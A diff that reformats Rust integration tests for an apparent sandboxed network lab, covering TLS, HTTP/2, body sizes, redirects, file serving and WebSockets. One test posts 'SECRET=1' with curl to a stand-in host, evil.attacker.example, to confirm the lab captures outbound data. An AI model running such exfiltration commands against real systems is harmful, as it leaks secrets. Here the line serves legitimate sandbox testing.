@@ -16,29 +16,17 @@ fn tls_is_served_under_any_name_with_the_lab_s_ca() {
             .arg(lab.ca_pem_path())
             .arg("https://api.allowed.example/v1?q=1"),
     );
-    assert!(
-        body.contains(r#""host":"api.allowed.example""#) && body.contains("HTTP/1.1"),
-        "{body}"
-    );
+    assert!(body.contains(r#""host":"api.allowed.example""#) && body.contains("HTTP/1.1"), "{body}");
     let got = lab.wait_for(LIMIT, |got| !got.requests.is_empty()).unwrap();
     assert_eq!(got.server_name.as_deref(), Some("api.allowed.example"));
-    assert_eq!(
-        (
-            got.requests[0].method.as_str(),
-            got.requests[0].target.as_str()
-        ),
-        ("GET", "/v1?q=1")
-    );
+    assert_eq!((got.requests[0].method.as_str(), got.requests[0].target.as_str()), ("GET", "/v1?q=1"));
     assert!(got.bytes > 200 && got.head[0] == 0x16);
 }
 
 #[test]
 fn the_host_s_ca_bundle_has_the_lab_s_ca() {
     let lab = start();
-    let body = output(
-        lab.command("curl")
-            .args(["-sS", "https://web.lab.example/"]),
-    );
+    let body = output(lab.command("curl").args(["-sS", "https://web.lab.example/"]));
     assert!(body.contains("web.lab.example"), "{body}");
 }
 
@@ -55,30 +43,15 @@ fn http2_is_served_to_clients_that_offer_it() {
         "https://web.lab.example/",
     ]));
     assert_eq!(version, "2");
-    assert_eq!(
-        lab.wait_for(LIMIT, |got| !got.requests.is_empty())
-            .unwrap()
-            .requests[0]
-            .version,
-        "HTTP/2.0"
-    );
+    assert_eq!(lab.wait_for(LIMIT, |got| !got.requests.is_empty()).unwrap().requests[0].version, "HTTP/2.0");
 }
 
 #[test]
 fn a_posted_body_is_counted_and_kept() {
     let lab = start();
-    let body = output(lab.command("curl").args([
-        "-sS",
-        "-d",
-        "SECRET=1",
-        "http://evil.attacker.example/take",
-    ]));
+    let body = output(lab.command("curl").args(["-sS", "-d", "SECRET=1", "http://evil.attacker.example/take"]));
     assert!(body.contains(r#""received":8"#), "{body}");
-    let got = lab
-        .wait_for(LIMIT, |got| {
-            got.requests.iter().any(|request| request.body_bytes == 8)
-        })
-        .unwrap();
+    let got = lab.wait_for(LIMIT, |got| got.requests.iter().any(|request| request.body_bytes == 8)).unwrap();
     assert_eq!(got.requests[0].body_head, b"SECRET=1");
     assert_eq!(got.requests[0].host, "evil.attacker.example");
 }
@@ -88,14 +61,7 @@ fn big_bodies_have_exactly_their_length() {
     let lab = start();
     for scheme in ["http", "https"] {
         let url = format!("{scheme}://web.lab.example/bytes/10000001");
-        let size = output(lab.command("curl").args([
-            "-sS",
-            "-o",
-            "/dev/null",
-            "-w",
-            "%{size_download}",
-            &url,
-        ]));
+        let size = output(lab.command("curl").args(["-sS", "-o", "/dev/null", "-w", "%{size_download}", &url]));
         assert_eq!(size, "10000001");
     }
 }
@@ -104,20 +70,8 @@ fn big_bodies_have_exactly_their_length() {
 fn echo_status_and_redirect_do_what_they_say() {
     let lab = start();
     let curl = |arguments: &[&str]| output(lab.command("curl").arg("-sS").args(arguments));
-    assert_eq!(
-        curl(&["-d", "hello", "http://web.lab.example/echo"]),
-        "hello"
-    );
-    assert_eq!(
-        curl(&[
-            "-o",
-            "/dev/null",
-            "-w",
-            "%{http_code}",
-            "http://web.lab.example/status/418"
-        ]),
-        "418"
-    );
+    assert_eq!(curl(&["-d", "hello", "http://web.lab.example/echo"]), "hello");
+    assert_eq!(curl(&["-o", "/dev/null", "-w", "%{http_code}", "http://web.lab.example/status/418"]), "418");
     let url = "http://web.lab.example/redirect?http://api.allowed.example/there";
     assert!(curl(&["-L", url]).contains(r#""path":"/there""#));
 }
@@ -129,9 +83,7 @@ fn a_host_s_files_are_served_and_nothing_above_them() {
     std::fs::create_dir(directory.path().join("simple")).unwrap();
     std::fs::write(directory.path().join("simple/index.html"), "<p>files</p>").unwrap();
     let answer = Answer::Addresses(vec![bottle_lab::addresses::WEB.into()], 60);
-    let options = Options::default()
-        .name("files.test", answer)
-        .files("files.test", directory.path());
+    let options = Options::default().name("files.test", answer).files("files.test", directory.path());
     let lab = Lab::start(options).unwrap();
     let curl = |url: &str| output(lab.command("curl").args(["-sS", "--path-as-is", url]));
     assert_eq!(curl("https://files.test/simple/"), "<p>files</p>");
@@ -150,8 +102,5 @@ assert b'101' in head and b's3pPLMBiTxaQ9kYGzzhZRbK+xOo=' in head, head
 m=b'over the wire'; k=os.urandom(4)
 s.sendall(bytes([0x81,0x80|len(m)])+k+bytes(c^k[i%4] for i,c in enumerate(m)))
 n=s.recv(2)[1]; print(s.recv(n).decode())";
-    assert_eq!(
-        output(lab.command("python3").args(["-c", script])).trim(),
-        "over the wire"
-    );
+    assert_eq!(output(lab.command("python3").args(["-c", script])).trim(), "over the wire");
 }
